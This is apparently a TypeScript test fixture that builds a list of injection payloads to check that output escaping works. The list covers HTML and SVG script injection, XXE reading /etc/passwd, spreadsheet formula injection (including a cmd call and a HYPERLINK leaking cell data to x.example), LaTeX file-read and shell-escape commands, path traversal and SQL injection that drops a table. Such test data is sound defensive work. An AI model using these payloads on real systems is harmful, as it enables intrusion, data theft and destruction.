/** Texts that became code somewhere: each must come out of every output as the text it is. */

const html = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<style>@import "//x.example"</style>',
  '<base href="//x.example/">',
  '<meta http-equiv="refresh" content="0;url=//x.example">',
  '<object data="//x.example"></object>',
  '<form action="//x.example"><button>x</button></form>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<!--><script>alert(1)</script>-->',
  '<x onclick=alert(1)//',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u003cscript\u003ealert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  `$\{alert(1)}`,
  '<%= 7*7 %>',
  'javascript:alert(1)',
  'data:text/html,<b>x</b>',
  'vbscript:msgbox(1)',
]
const xml = [
  ']]><script>alert(1)</script>',
  '<![CDATA[<b>x</b>]]>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<?xml version="1.0"?>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '&xxe;',
  '&amp;lt;b&amp;gt;',
  '</title></entry></feed>',
  '<entry><id>urn:x</id></entry>',
  "' attr='x",
  '" href="javascript:alert(1)',
]
const tables = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '@SUM(1+1)',
  '+1',
  '-1',
  '=HYPERLINK("http://x.example?"&A1,"klik")',
  ';=1+1',
  '";=1+1;"',
  '","=1+1',
  '|=1+1',
]
const references = [
  'ER  - ',
  'TY  - BOOK',
  'UR  - javascript:alert(1)',
  '@article{x, title = {y}}',
  '}, url = {javascript:alert(1)',
  '\\input{/etc/passwd}',
  '\\write18{id}',
  '\\immediate\\openout',
  '$x_1^2$',
  '100 % & # ~ ^ _ \\',
  '}}}}{{{{',
  '% kommentar',
]
const signs = [
  '\u001b[31m',
  '../../../../etc/passwd',
  "' OR 1=1 --",
  '"; DROP TABLE items; --',
  'NEAR(a b)',
  '\u202eteks\u202c',
  '\u200b\u200d\ufeff',
  'A\u0301\u0301\u0301',
]

const cores = [...html, ...xml, ...tables, ...references, ...signs]

/** Alone, inside a sentence, and behind what ends an attribute or a quotation. */
const settings: readonly ((core: string) => string)[] = [
  (core) => core,
  (core) => `Udvalget godkendte ${core} og drøftede resten.`,
  (core) => `"'>${core}`,
]

export const payloads: readonly string[] = settings.flatMap((place) => cores.map(place))
